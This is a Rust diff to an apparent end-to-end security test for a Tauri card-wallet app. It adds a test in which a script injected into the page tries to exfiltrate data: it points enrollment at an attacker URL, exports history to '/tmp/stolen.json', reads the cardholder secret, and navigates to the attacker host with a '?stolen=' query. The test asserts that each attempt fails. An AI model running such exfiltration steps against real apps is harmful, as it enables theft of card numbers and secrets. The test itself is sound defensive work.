@@ -4,7 +4,7 @@
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
-use consentry_tests::app::{app_binary, skip_unless_available, RunningApp};
+use consentry_tests::app::{app_binary, skip_unless_available, DialogScript, RunningApp};
 
 const SCREENS: [(&str, &str, &str); 6] = [
     ("cards", "Cards", "Cartes"),
@@ -440,7 +440,13 @@ async fn a_second_device_pairs_through_the_window_and_a_platform_claim_is_shown_
     if skip_unless_available() {
         return;
     }
-    let app = RunningApp::start_with(&[("CONSENTRY_DEMO_EVERY", "0")]).await;
+    // The person says yes to showing the credentials (a native dialog the page cannot answer).
+    let dialogs = DialogScript::new(true);
+    let app = RunningApp::start_with(&[
+        ("CONSENTRY_DEMO_EVERY", "0"),
+        ("CONSENTRY_TEST_DIALOGS", dialogs.path()),
+    ])
+    .await;
     app.create_keyring_wallet_to_first_card().await;
     app.type_into("#first-card-number", "4242424242424242")
         .await;
@@ -629,4 +635,141 @@ fn sqlite_exec(data_dir: &std::path::Path, sql: &str) {
         "{}",
         String::from_utf8_lossy(&out.stderr)
     );
+}
+
+/// Calls `command` from inside the page, as an injected script would, and returns
+/// `{"ok": response}` or `{"err": error}`.
+async fn invoke_from_page(
+    app: &RunningApp,
+    command: &str,
+    request: serde_json::Value,
+) -> serde_json::Value {
+    app.client
+        .execute_async(
+            "const [command, request, done] = arguments;
+             window.__TAURI_INTERNALS__.invoke(command, { request })
+               .then((ok) => done({ ok }), (err) => done({ err }));",
+            vec![serde_json::json!(command), request],
+        )
+        .await
+        .unwrap_or_else(|e| panic!("{command} from the page: {e}"))
+}
+
+/// A script injected into the page tries every way out the issue lists; each fails, and
+/// the attacker's server never hears from the app.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_script_injected_into_the_page_cannot_send_data_out() {
+    if skip_unless_available() {
+        return;
+    }
+    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    attacker.set_nonblocking(true).unwrap();
+    let attacker_url = format!("http://{}", attacker.local_addr().unwrap());
+    // The person declines every native dialog.
+    let dialogs = DialogScript::new(false);
+    let app = RunningApp::start_with(&[
+        ("CONSENTRY_DEMO_EVERY", "0"),
+        ("CONSENTRY_TEST_DIALOGS", dialogs.path()),
+    ])
+    .await;
+    app.create_keyring_wallet().await;
+
+    // 1. Point the wallet at the attacker's platform (then card_link would send the number).
+    let enroll = invoke_from_page(
+        &app,
+        "platform_enroll",
+        serde_json::json!({"platformUrl": attacker_url, "deviceName": "x",
+            "cardholderId": null, "cardholderSecret": null, "pairingCode": null}),
+    )
+    .await;
+    assert_eq!(enroll["err"]["code"], "cancelled", "{enroll}");
+    assert!(
+        dialogs.asked().contains(&attacker_url),
+        "the native dialog names the address: {:?}",
+        dialogs.asked()
+    );
+
+    // 2. Write the history where the page says: the request has no path to say it with.
+    let named = invoke_from_page(
+        &app,
+        "export_history",
+        serde_json::json!({"format": "json", "destination": "/tmp/stolen.json",
+            "from": null, "to": null, "password": null}),
+    )
+    .await;
+    // Refused by Tauri before the command runs.
+    assert!(
+        named["err"]
+            .to_string()
+            .contains("unknown field `destination`"),
+        "{named}"
+    );
+    let export = invoke_from_page(
+        &app,
+        "export_history",
+        serde_json::json!({"format": "json", "from": null, "to": null, "password": null}),
+    )
+    .await;
+    assert_eq!(export["err"]["code"], "cancelled", "{export}");
+    let claim = invoke_from_page(
+        &app,
+        "missing_reward_save",
+        serde_json::json!({"transactionId": "txn_x", "appId": "app_x", "destination": "/tmp/x"}),
+    )
+    .await;
+    assert!(
+        claim["err"]
+            .to_string()
+            .contains("unknown field `destination`"),
+        "{claim}"
+    );
+
+    // 3. Read the cardholder secret.
+    let secret = invoke_from_page(&app, "platform_credentials", serde_json::json!({})).await;
+    assert!(secret.get("ok").is_none(), "{secret}");
+
+    // 4. A command the window is not granted.
+    let unread = invoke_from_page(&app, "activity_unread", serde_json::json!({})).await;
+    assert!(unread.get("ok").is_none(), "{unread}");
+    assert!(
+        unread["err"].to_string().contains("not allowed"),
+        "{unread}"
+    );
+
+    // 5. Leave the app for the attacker's page, and open a window there.
+    let before = app.client.current_url().await.unwrap();
+    app.client
+        .execute(
+            "location.href = arguments[0] + '/?stolen=' + document.title; return 1;",
+            vec![serde_json::json!(attacker_url)],
+        )
+        .await
+        .unwrap();
+    let opened = app
+        .client
+        .execute(
+            "return window.open(arguments[0] + '/?stolen=1') === null;",
+            vec![serde_json::json!(attacker_url)],
+        )
+        .await
+        .unwrap();
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    assert_eq!(app.client.current_url().await.unwrap(), before);
+    assert_eq!(
+        app.client.windows().await.unwrap().len(),
+        1,
+        "opened: {opened}"
+    );
+    app.wait_text("h1", "Cards").await;
+    assert!(
+        dialogs.asked().contains("Open in browser"),
+        "the address was offered to the browser, natively: {:?}",
+        dialogs.asked()
+    );
+
+    match attacker.accept() {
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+        other => panic!("the attacker's server was reached: {other:?}"),
+    }
+    app.stop().await;
 }
